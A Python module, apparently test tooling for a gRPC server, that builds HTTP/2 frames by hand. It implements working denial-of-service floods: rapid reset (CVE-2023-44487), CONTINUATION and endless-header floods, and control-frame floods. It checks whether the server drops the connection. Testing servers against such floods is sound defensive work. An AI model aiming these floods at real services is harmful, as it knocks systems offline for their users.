"""Clients that abuse HTTP/2: frames by hand, as fast as the server takes them."""

import socket
import struct
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
(DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY,
 WINDOW_UPDATE, CONTINUATION) = range(10)
END_STREAM, END_HEADERS = 1, 4


def frame(kind, flags, stream, body=b""):
    head = struct.pack(">I", len(body))[1:] + bytes([kind, flags])
    return head + struct.pack(">I", stream) + body


def literal(name, value):
    """A header field without table or Huffman code."""
    length = bytes([127]) + varint(len(value) - 127) \
        if len(value) >= 127 else bytes([len(value)])
    return b"\0" + bytes([len(name)]) + name + length + value


def varint(number):
    out = b""
    while number >= 128:
        out += bytes([number % 128 + 128])
        number //= 128
    return out + bytes([number])


def request_headers(method="Retrieval/Blend"):
    return b"".join(
        literal(*field) for field in (
            (b":method", b"POST"), (b":scheme", b"http"),
            (b":path", b"/timbre.v1." + method.encode()),
            (b":authority", b"x"), (b"content-type", b"application/grpc"),
            (b"te", b"trailers"),
        )
    )


def rapid_reset(first=1):
    """CVE-2023-44487: calls that are taken back as they are made."""
    headers = request_headers()
    cancel = struct.pack(">I", 8)
    for stream in range(first, 1 << 31, 200):
        yield b"".join(
            frame(HEADERS, END_HEADERS, i, headers)
            + frame(RST_STREAM, 0, i, cancel)
            for i in range(stream, stream + 200, 2)
        )


def compressed_rapid_reset():
    """The same in 35 bytes a call, by HPACK's table."""
    fields = [
        (b":path", b"/timbre.v1.Retrieval/Blend"), (b":authority", b"x"),
        (b"content-type", b"application/grpc"), (b"te", b"trailers"),
    ]
    # 0x83: POST, 0x86: http. Added to the table, so the last one is 62.
    table = b"".join(b"\x40" + literal(*field)[1:] for field in fields)
    cancel = struct.pack(">I", 8)
    yield frame(HEADERS, END_HEADERS, 1, b"\x83\x86" + table) \
        + frame(RST_STREAM, 0, 1, cancel)
    known = b"\x83\x86" + bytes(0x80 | 62 + i for i in range(len(fields)))
    for stream in range(3, 1 << 31, 400):
        yield b"".join(
            frame(HEADERS, END_HEADERS, i, known)
            + frame(RST_STREAM, 0, i, cancel)
            for i in range(stream, stream + 400, 2)
        )


def continuation():
    """A header block without an end: many small fields."""
    yield frame(HEADERS, 0, 1, request_headers())
    number = 0
    while True:
        fields = b"".join(
            literal(b"x%07d" % (number + i), b"y") for i in range(150)
        )
        number += 150
        yield frame(CONTINUATION, 0, 1, fields)


def endless_field():
    """A header block without an end: one large field."""
    size = varint((1 << 30) - 127)
    yield frame(HEADERS, 0, 1, request_headers() + b"\0\1x\x7f" + size)
    while True:
        yield frame(CONTINUATION, 0, 1, b"y" * 16_000)


def priority():
    while True:
        yield frame(PRIORITY, 0, 3, b"\0\0\0\1\x10") * 1000


def settings():
    while True:
        yield frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535)) * 1000


def ping():
    while True:
        yield frame(PING, 0, 0, b"12345678") * 1000


def window_update():
    while True:
        yield frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * 1000


def unknown_frames():
    while True:
        yield frame(0xF0, 0, 0, b"z" * 16_000)


def empty_data():
    """Frames of a message that never gets a byte, in an open call."""
    yield frame(HEADERS, END_HEADERS, 1, request_headers())
    while True:
        yield frame(DATA, 0, 1) * 1000


def headers_of_closed_streams():
    yield frame(HEADERS, END_HEADERS | END_STREAM, 3, request_headers())
    while True:
        yield frame(HEADERS, END_HEADERS, 1, request_headers()) * 100


FLOODS = [
    rapid_reset, compressed_rapid_reset, continuation, endless_field, priority,
    settings, ping, window_update, unknown_frames, empty_data,
    headers_of_closed_streams,
]


class Flooder:
    """A connection that sends what a flood yields, and reads all answers."""

    def __init__(self, port, host="127.0.0.1", before=b""):
        self.socket = socket.create_connection((host, port))
        self.socket.sendall(PREFACE + frame(SETTINGS, 0, 0) + before)
        self.sent = 0
        self.closed = threading.Event()
        threading.Thread(target=self._drain, daemon=True).start()

    def _drain(self):
        try:
            while self.socket.recv(1 << 16):
                pass
        except OSError:
            pass
        self.closed.set()

    def run(self, flood, seconds):
        """Whether the server closed the connection within that time."""
        end = time.monotonic() + seconds
        try:
            for piece in flood():
                if self.closed.is_set() or time.monotonic() > end:
                    break
                self.socket.sendall(piece)
                self.sent += len(piece)
        except OSError:
            self.closed.set()
        return self.closed.wait(1)
